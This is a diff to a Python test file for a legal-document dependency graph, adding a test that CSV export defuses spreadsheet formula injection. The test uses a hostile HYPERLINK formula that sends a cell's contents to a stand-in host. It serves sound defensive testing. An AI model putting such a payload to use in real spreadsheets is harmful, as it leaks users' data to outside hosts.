@@ -16,7 +16,7 @@ from datetime import date
 from pathlib import Path
 
 import pytest
-from rdflib import Dataset, URIRef
+from rdflib import Dataset, Literal, URIRef
 
 from graph.build import check
 from graph.dependencies import dependency_graph
@@ -351,3 +351,28 @@ def test_circular_article_amended_per_phapdien_note(phapdien_store: EmbeddedStor
     assert (circular.distance, circular.role.rsplit("/", 1)[-1]) == (1, MAY)
     assert path_text(dependency_graph(store), circular.paths[0]) == \
         "Điều 16 Thông tư 28/2012/TT-BKHCN → thuộc → Thông tư 28/2012/TT-BKHCN"
+
+
+def test_csv_cells_that_look_like_formulas_are_written_as_text() -> None:
+    """A label starting with '=' (or +, -, @) opens in a spreadsheet as text, with a leading apostrophe; the JSON
+    keeps it as it is."""
+    import csv
+    import io
+
+    from api.impact_view import as_json, csv_text
+
+    dataset = Dataset()
+    dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/impact")).parse(ROOT / "tests/fixtures/impact.ttl")
+    dataset.graph(URIRef("https://w3id.org/vnqi/graph/ontology/impact")).parse(ROOT / "ontology/impact.ttl")
+    hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    dataset.graph(URIRef("https://w3id.org/vnqi/graph/test/hostile")).add(
+        (URIRef(ID + "doc/t-d1"), URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(hostile, lang="en")))
+    store = EmbeddedStore(None)
+    store.replace(dataset)
+    report = article_1(store)
+    graph = dependency_graph(store)
+    rows = list(csv.reader(io.StringIO(csv_text(graph, report, "en"))))
+    row = next(r for r in rows if r[0] == ID + "doc/t-d1")
+    assert row[3] == "'" + hostile and not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    labels = [e["label"] for g in as_json(graph, report, "en")["groups"] for e in g["entities"]]
+    assert hostile in labels
